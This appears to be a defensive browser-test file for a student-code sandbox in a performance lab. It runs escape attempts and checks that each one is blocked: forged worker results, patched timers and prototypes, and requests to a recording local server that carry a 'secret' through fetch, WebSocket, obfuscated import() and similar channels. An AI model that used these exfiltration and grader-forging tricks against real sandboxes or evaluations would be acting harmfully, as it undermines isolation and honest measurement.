// Protects the student-code sandbox against the escapes a student can try from a code
// exercise, each driven through the page's own code card as a student would (?quick=1,
// Acceleration): forging a result on the worker's channel, wrapping postMessage, replacing
// performance.now, caching results in the timed loop-order exercise, and reaching the network,
// storage or another context (fetch with data in the URL, synchronous XHR, WebSocket,
// EventSource, importScripts, a nested Worker, a dynamic import() written out, hidden behind
// a comment or assembled by eval, IndexedDB, the Cache API, BroadcastChannel, a font loaded
// from a URL), and slowing only the timed test's reference through a shared prototype. A second origin served by this test on
// another port records every request; it must never see one. The timed exercise's student
// functions here are correct but twice as slow as the naive loop, so they pass only if a
// forgery worked (never asserted on timing itself: a fair run of them cannot reach 1.2×).
// Needs `npx vite build` first (and the wasm build PERFLAB_WASM_DIR points at).

import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { exerciseCards, openLab } from './harness.mjs';

const ATTAINABLE = 'acceleration.attainable-code';
const MATMUL = 'acceleration.matmul-loop-order';

// The other origin: answers everything (with CORS and CORP, so a request that got through
// would load under the page's COEP) and records what it was asked.
const otherRequests = [];
const other = http.createServer((req, res) => {
  otherRequests.push(`${req.method} ${req.url}`);
  res.writeHead(200, {
    'content-type': req.url.startsWith('/es') ? 'text/event-stream' : 'text/javascript',
    'access-control-allow-origin': '*',
    'cross-origin-resource-policy': 'cross-origin',
  });
  res.end(req.url.startsWith('/es') ? 'data: escaped\n\n' : 'export const escaped = true;');
});
other.on('upgrade', (req, socket) => {
  otherRequests.push(`UPGRADE ${req.url}`);
  socket.destroy();
});
let OTHER;

let lab;
let page;
let card, dataOf, submitAndWait;
before(async () => {
  await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
  OTHER = `http://127.0.0.1:${other.address().port}`;
  lab = await openLab({ query: '?quick=1', hash: '#acceleration' });
  page = lab.page;
  const cards = exerciseCards(page);
  ({ card, dataOf, submitAndWait } = cards);
  await cards.waitForCards([ATTAINABLE, MATMUL]);
});
after(async () => {
  await lab?.close();
  other.close();
});

async function setCode(id, code) {
  await card(id).locator('.cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(code);
}

async function run(id, code) {
  await setCode(id, code);
  const correct = await submitAndWait(id, () => card(id).locator('button[data-role="run"]').click());
  const tests = await card(id)
    .locator('.pl-ex-tests li')
    .evaluateAll((els) => els.map((e) => ({ passed: e.dataset.passed, text: e.textContent })));
  const logs = (await card(id).locator('.pl-ex-console pre').count())
    ? (await card(id).locator('.pl-ex-console pre').textContent()).split('\n')
    : [];
  return { correct, tests, logs, text: await card(id).textContent() };
}

const ATTAINABLE_BODY = 'return Math.min(peak, intensity * bandwidth);';

// Correct, and twice the naive loop's work: the timed test can pass only through a forgery.
const SLOW_MATMUL = `function slowProduct(a, b, n) {
  let c;
  for (let rep = 0; rep < 2; rep++) {
    c = new Float64Array(n * n);
    for (let i = 0; i < n; i++)
      for (let j = 0; j < n; j++) {
        let sum = 0;
        for (let k = 0; k < n; k++) sum += a[i * n + k] * b[k * n + j];
        c[i * n + j] = sum;
      }
  }
  return c;
}`;

async function assertTimedTestFails(outcome) {
  assert.equal(outcome.tests.length, 6);
  assert.deepEqual(outcome.tests.slice(0, 5).map((t) => t.passed), ['true', 'true', 'true', 'true', 'true'], outcome.text);
  assert.equal(outcome.tests[5].passed, 'false', outcome.tests[5].text);
  // The cheat loses on its own measured medians, or (on a heavily loaded machine) its slow
  // product runs past the time limit: either way it does not win.
  assert.match(outcome.tests[5].text, /faster than the naive loop at N = 512: yours [\d.e+-]+ ms, the naive ijk loop [\d.e+-]+ ms|did not finish within 60000 ms/);
  assert.equal(outcome.correct, 'false');
  assert.notEqual((await dataOf(MATMUL)).bestScore, '15');
}

test('a result posted on the worker\'s own channel does not replace a real one', async () => {
  const outcome = await run(ATTAINABLE, `function attainable(peak, bandwidth, intensity) {
  try { self.postMessage({ type: 'result', index: 0, result: { value: 123456 } }); } catch (e) {}
  ${ATTAINABLE_BODY}
}`);
  assert.equal(outcome.tests.length, 6);
  for (const t of outcome.tests) assert.doesNotMatch(t.text, /got 123456/);
  assert.equal(outcome.correct, 'true', outcome.text);
});

test('a forged timed result and an early "done" on the worker\'s channel are ignored', async () => {
  const outcome = await run(MATMUL, `${SLOW_MATMUL}
function matmul(a, b, n) {
  const c = slowProduct(a, b, n);
  if (n === 512) {
    try {
      self.postMessage({ type: 'result', index: 5, result: { value: { student_ms: [1, 1, 1], reference_ms: [1000, 1000, 1000], max_abs_difference: 0 } } });
      self.postMessage({ type: 'done' });
    } catch (e) {}
  }
  return c;
}`);
  await assertTimedTestFails(outcome);
  assert.doesNotMatch(outcome.tests[5].text, /yours 1 ms/);
});

test('wrapping self.postMessage cannot rewrite the student\'s times', async () => {
  const outcome = await run(MATMUL, `${SLOW_MATMUL}
try {
  const post = self.postMessage.bind(self);
  self.postMessage = (m) => {
    if (m && m.result && m.result.value && m.result.value.student_ms !== undefined) {
      m.result.value.student_ms = m.result.value.reference_ms.map((x) => x / 100);
    }
    post(m);
  };
} catch (e) {}
function matmul(a, b, n) { return slowProduct(a, b, n); }`);
  await assertTimedTestFails(outcome);
});

test('replacing performance.now does not change how the runner times the student', async () => {
  // The replaced clock stands still while the student's function runs.
  const outcome = await run(MATMUL, `${SLOW_MATMUL}
const realNow = performance.now.bind(performance);
let hidden = 0;
try { performance.now = () => realNow() - hidden; } catch (e) {}
function matmul(a, b, n) {
  const start = realNow();
  const c = slowProduct(a, b, n);
  hidden += realNow() - start;
  return c;
}`);
  await assertTimedTestFails(outcome);
});

test('a matmul that caches its result for repeated arguments does not win the timed test', async () => {
  const outcome = await run(MATMUL, `${SLOW_MATMUL}
const cache = new Map();
function matmul(a, b, n) {
  const key = n + ':' + a[0] + ':' + a[a.length - 1] + ':' + b[0] + ':' + b[b.length - 1];
  if (!cache.has(key)) cache.set(key, slowProduct(a, b, n));
  return cache.get(key);
}`);
  await assertTimedTestFails(outcome);
});

test('network, storage, nested workers and assembled imports are out of reach', async () => {
  await page.evaluate(() => {
    window.__broadcast = [];
    window.__channel = new BroadcastChannel('perflab-escape');
    window.__channel.onmessage = (e) => window.__broadcast.push(e.data);
  });
  const outcome = await run(ATTAINABLE, `const OTHER = ${JSON.stringify(OTHER)};
const secret = 'answer-' + 42;
function attempt(name, f) {
  try {
    f();
    console.log(name + ': reached');
  } catch (e) {
    console.log(name + ': blocked (' + e.name + ')');
  }
}
attempt('fetch', () => fetch(OTHER + '/fetch?data=' + secret));
attempt('sync XHR', () => { const x = new XMLHttpRequest(); x.open('GET', OTHER + '/xhr?data=' + secret, false); x.send(); });
attempt('WebSocket', () => new WebSocket(OTHER.replace('http', 'ws') + '/ws?data=' + secret));
attempt('EventSource', () => new EventSource(OTHER + '/es?data=' + secret));
attempt('importScripts', () => importScripts(OTHER + '/import-scripts.js'));
attempt('nested Worker', () => new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(OTHER + '/nested') + ')'], { type: 'text/javascript' }))));
attempt('eval import', () => eval('imp' + 'ort(OTHER + "/eval-import.js")'));
attempt('Function import', () => (function () {}).constructor('u', 'return imp' + 'ort(u)')(OTHER + '/function-import.js'));
attempt('string timer', () => setTimeout('imp' + 'ort(' + JSON.stringify(OTHER + '/timer-import.js') + ')', 0));
attempt('indexedDB', () => indexedDB.open('perflab-escape'));
attempt('caches', () => caches.open('perflab-escape'));
attempt('BroadcastChannel', () => new BroadcastChannel('perflab-escape').postMessage(secret));
attempt('navigator.storage', () => navigator.storage.getDirectory());
attempt('FontFace', () => new FontFace('escape', 'url(' + OTHER + '/font.woff2)').load());
// Time for anything that got out to arrive.
const until = Date.now() + 300;
while (Date.now() < until) {}
function attainable(peak, bandwidth, intensity) {
  ${ATTAINABLE_BODY}
}`);
  assert.equal(outcome.correct, 'true', outcome.text);
  const attempts = [
    'fetch', 'sync XHR', 'WebSocket', 'EventSource', 'importScripts', 'nested Worker', 'eval import',
    'Function import', 'string timer', 'indexedDB', 'caches', 'BroadcastChannel', 'navigator.storage', 'FontFace',
  ];
  for (const name of attempts) {
    assert.ok(outcome.logs.some((line) => line.startsWith(`${name}: blocked (`)), `${name}: ${outcome.logs.join(' | ')}`);
  }
  await page.waitForTimeout(500);
  assert.deepEqual(otherRequests, []);
  assert.deepEqual(await page.evaluate(() => window.__broadcast), []);
  const databases = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name));
  assert.ok(!databases.includes('perflab-escape'), databases.join(', '));
  assert.ok(!(await page.evaluate(() => caches.has('perflab-escape'))));
});

test('a dynamic import() in the code is refused with a clear message and never requested, however it is hidden', async () => {
  // Written out; behind an HTML-like comment (Annex B); behind a // comment ended by U+2028.
  const url = `${JSON.stringify('http://127.0.0.1')} + ':' + ${JSON.stringify(String(new URL(OTHER).port))} + '/import.js'`;
  for (const call of [`import(${url})`, `import<!--\n(${url})`, `const m = import<!--\n(${url})`, `import// c\u2028(${url})`]) {
    const outcome = await run(ATTAINABLE, `function attainable(peak, bandwidth, intensity) {
  ${call};
  ${ATTAINABLE_BODY}
}`);
    assert.equal(outcome.correct, 'false', call);
    // At the start of a statement acorn takes `import<!--` for a static import: refused too.
    assert.match(outcome.text, /your code (calls import\(\)|uses import or export), which the sandbox does not run/, call);
  }
  await page.waitForTimeout(300);
  assert.deepEqual(otherRequests, []);
  assert.deepEqual(lab.errors, []);
});

test('a %TypedArray% getter that slows only what is not the student\'s own does not slow the reference', async () => {
  // Twice the naive loop's work: it can pass only if the reference is slowed by the getter.
  const outcome = await run(MATMUL, `${SLOW_MATMUL}
const TypedArray = Object.getPrototypeOf(Float64Array.prototype);
const lengthOf = Object.getOwnPropertyDescriptor(TypedArray, 'length').get;
const own = new WeakSet();
const slowed = new WeakSet();
let patched = 'no';
try {
  Object.defineProperty(TypedArray, 'length', {
    get() {
      if (!own.has(this) && !slowed.has(this)) {
        slowed.add(this);
        const until = performance.now() + 2000;
        while (performance.now() < until) {}
      }
      return lengthOf.call(this);
    },
    configurable: true,
  });
  patched = 'yes';
} catch (e) {
  patched = e.name;
}
console.log('patched: ' + patched);
function matmul(a, b, n) {
  own.add(a); own.add(b);
  const c = slowProduct(a, b, n);
  own.add(c);
  return c;
}`);
  assert.ok(outcome.logs.includes('patched: TypeError'), outcome.logs.join(' | '));
  await assertTimedTestFails(outcome);
});
